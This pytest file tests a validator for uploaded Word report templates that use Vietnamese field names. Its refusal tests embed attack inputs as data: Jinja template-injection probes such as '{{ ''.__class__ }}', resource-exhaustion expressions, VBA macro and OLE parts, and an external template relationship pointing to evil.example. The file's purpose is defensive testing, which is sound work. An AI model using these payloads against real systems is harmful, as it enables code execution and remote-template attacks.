"""Layouts of offices: what a .docx may say, and why one is refused."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from docx import Document

from api.errors import sentence_of
from api.office.labels import Labels
from api.office.layout import usual_layout
from api.office.sandbox import LayoutEnvironment
from api.office.word import check_layout
from helpdesk.errors import RefusalError
from helpdesk.language.catalogues import VIETNAMESE, Words
from helpdesk.reports.errors import (
    NoFieldError,
    TemplateBrokenError,
    TemplateFieldError,
    TemplateListError,
    TemplateMacroError,
    TemplateOutsideError,
    TemplateRowError,
    TemplateSyntaxError,
    TemplateTooMuchError,
    TemplateTypeError,
)


def docx(*paragraphs: str) -> bytes:
    word = Document()
    for words in paragraphs:
        word.add_paragraph(words)
    kept = BytesIO()
    word.save(kept)
    return kept.getvalue()


def with_part(data: bytes, name: str, part: bytes) -> bytes:
    """Return the file with one part more, or another one in its place."""
    kept = BytesIO()
    with ZipFile(BytesIO(data)) as old, ZipFile(kept, "w", ZIP_DEFLATED) as new:
        for one in old.namelist():
            if one != name:
                new.writestr(one, old.read(one))
        new.writestr(name, part)
    return kept.getvalue()


def test_the_usual_layout_and_an_offices_own_are_taken() -> None:
    check_layout(usual_layout(Labels(Words.load(), VIETNAMESE)))
    check_layout(
        docx("Báo cáo {{ dia_ban }}", "{%p for r in theo_dia_ban %}", "{{ r.ten }}: {{ r.luot }}", "{%p endfor %}")
    )
    check_layout(docx("{%p if khong_co_viec %}", "Không có", "{%p endif %}", "{{ ky }}"))


@pytest.mark.parametrize(
    ("said", "refusal"),
    [
        (["{{ so_nguoii }}"], TemplateFieldError),
        (["{%p for r in theo_dia_ban %}", "{{ r.tuoi }}", "{%p endfor %}"], TemplateFieldError),
        (["{%p for r in moi_thu %}", "{{ r }}", "{%p endfor %}"], TemplateFieldError),
        (["{{ theo_dia_ban }}"], TemplateListError),
        (["{%p for r in theo_dia_ban %}", "{{ r }}", "{%p endfor %}"], TemplateRowError),
        (["Không có ô nào"], NoFieldError),
        (["{{ so_nguoi"], TemplateSyntaxError),
        (["{%p if ky %}", "x"], TemplateSyntaxError),
        (["{{ ky.__class__.__mro__ }}"], TemplateTooMuchError),
        (["{{ ''.__class__ }}"], TemplateTooMuchError),
        (["{{ range(10) }}"], TemplateTooMuchError),
        (["{{ 'x' * 100 }}"], TemplateTooMuchError),
        (["{%p for a in range(1000000000) %}", "x", "{%p endfor %}"], TemplateTooMuchError),
        (["{% set x = 1 %}{{ ky }}"], TemplateTooMuchError),
        (["{{ ky | center(100000000) }}"], TemplateTooMuchError),
        (["{% include 'x' %}"], TemplateTooMuchError),
    ],
)
def test_what_a_layout_may_not_say_is_refused(said: list[str], refusal: type[RefusalError]) -> None:
    with pytest.raises(refusal):
        check_layout(docx(*said))


def test_an_unknown_field_is_named_with_those_there_are() -> None:
    with pytest.raises(TemplateFieldError) as refused:
        check_layout(docx("{{ so_nguoii }}"))
    assert refused.value.facts["fields"] == "so_nguoii"
    assert "so_nguoi" in str(refused.value.facts["known"])


def test_a_layout_that_was_taken_before_lists_were_refused_is_still_filled_in() -> None:
    assert LayoutEnvironment().from_string("{{ theo_nhom }}").render(theo_nhom=["x"])
    with pytest.raises(TemplateListError):
        LayoutEnvironment(is_new=True).from_string("{{ theo_nhom }}")


def test_a_column_that_a_list_has_not_is_named_with_those_it_has() -> None:
    with pytest.raises(TemplateFieldError) as refused:
        check_layout(docx("{%p for r in theo_nhom %}", "{{ r.tuoi }}", "{%p endfor %}"))
    assert refused.value.facts == {"fields": "r.tuoi", "known": "r.ten, r.luot"}


@pytest.mark.parametrize("said", ["{{ so_nguoi", "{% if ky %}x", "{{ theo_nhom }}"])
def test_what_is_wrong_in_a_layout_is_said_in_the_readers_language_only(said: str) -> None:
    with pytest.raises(RefusalError) as refused:
        check_layout(docx("{{ ky }}", said))
    sentence = sentence_of(refused.value, Words.load(), VIETNAMESE)
    assert not [word for word in ("unexpected", "template", "Jinja", "%%") if word in sentence]


def test_macros_programs_and_things_from_outside_are_refused() -> None:
    good = docx("{{ ky }}")
    with pytest.raises(TemplateMacroError):
        check_layout(with_part(good, "word/vbaProject.bin", b"x"))
    with pytest.raises(TemplateMacroError):
        check_layout(with_part(good, "word/embeddings/oleObject1.bin", b"x"))
    types = ZipFile(BytesIO(good)).read("[Content_Types].xml")
    docm = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    with pytest.raises(TemplateMacroError):
        check_layout(with_part(good, "[Content_Types].xml", docm))
    outside = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    with pytest.raises(TemplateOutsideError):
        check_layout(with_part(good, "word/_rels/settings.xml.rels", outside))


def test_what_is_no_word_file_is_refused() -> None:
    for data in (b"", b"%PDF-1.7", b"\xd0\xcf\x11\xe0old"):
        with pytest.raises(TemplateTypeError):
            check_layout(data)
    with pytest.raises(TemplateBrokenError):
        check_layout(docx("{{ ky }}")[:2000])
    with pytest.raises(TemplateBrokenError):
        check_layout(with_part(docx("{{ ky }}"), "word/document.xml", b"<!DOCTYPE x><w/>"))
    with pytest.raises(TemplateTypeError):
        check_layout(with_part(b"PK\x05\x06" + bytes(18), "a.txt", b"x"))
